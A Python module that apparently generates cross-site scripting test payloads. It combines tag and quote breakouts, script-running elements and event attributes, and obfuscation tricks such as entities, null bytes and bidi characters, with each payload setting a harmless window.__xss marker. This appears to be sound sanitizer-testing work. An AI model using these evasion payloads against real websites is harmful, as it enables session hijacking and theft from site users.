"""Lines that would run a script if they were read as markup, made by a grammar: a way out of the surrounding text,
an element or attribute that runs code, and a disguise. Each sets ``window.__xss`` or opens a dialog if it runs."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

_OUT = ["", '">', "'>", "-->", "</script>", "</style>", "</title>", "</textarea>", "]]>", "</blockquote></details>",
        "</noscript>", "`}", "\\u003c/script\\u003e", "*/", "</p></td></table>"]  # fmt: skip
_CODE = ["window.__xss=1", "alert(1)", "top.__xss=2", "self['__x'+'ss']=3", "confirm`1`", "prompt(4)"]
_RUNS = [
    "<script>{code}</script>",
    "<script type=module>{code}</script>",
    "<img src=x onerror={code}>",
    "<img src=x onerror=\"{code}\">",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<body onload={code}>",
    "<input autofocus onfocus={code}>",
    "<details open ontoggle={code}><summary>x</summary></details>",
    "<iframe src=\"javascript:parent.{code}\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{code}&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:{code}\" autofocus>x</a>",
    "<object data=\"data:text/html,<script>{code}</script>\"></object>",
    "<math><mtext><style><img src=x onerror={code}></style></mtext></math>",
    "<template><img src=x onerror={code}></template>",
    "<video><source onerror={code}></video>",
    "<style>@import 'data:text/css,*{{}}';</style><img src=x onerror={code}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{code}\">",
    "<base href=\"javascript:{code}//\">",
    "<form><button formaction=\"javascript:{code}\">x</button></form>",
    "{{{{ {code} }}}}", "${{{code}}}", "{{% {code} %}}", "javascript:{code}", "\" onmouseover=\"{code}",
    "' autofocus onfocus='{code}", "[x](javascript:{code})", "![x](x\" onerror=\"{code})",
]  # fmt: skip


def _plain(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text)) if "__xss" not in text else text


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&#62;")


def _split(text: str) -> str:
    return text.replace("<", "<\x00", 1).replace(" on", "\x0con", 1)


def _slashed(text: str) -> str:
    return text.replace(" ", "/", 1)


def _bidi(text: str) -> str:
    return f"\u202e{text}\u2066\u2028"


def _wide(text: str) -> str:
    return f"\ufeff\ud83d{text}\udc00"


_DISGUISES = (_plain, _mixed, _entities, _split, _slashed, _bidi, _wide)


def payloads(count: int, seed: int = 0) -> list[str]:
    """``count`` different lines, plain ones of every kind first."""
    return list(itertools.islice(_distinct(seed), count))


def _distinct(seed: int) -> Iterator[str]:
    rng = random.Random(seed)
    all_ = [
        disguise(out + run.format(code=code))
        for disguise, out, run, code in itertools.product(_DISGUISES, _OUT, _RUNS, _CODE)
    ]
    first, rest = [run.format(code=_CODE[0]) for run in _RUNS], sorted(set(all_))
    rng.shuffle(rest)
    yield from dict.fromkeys([*first, *rest])
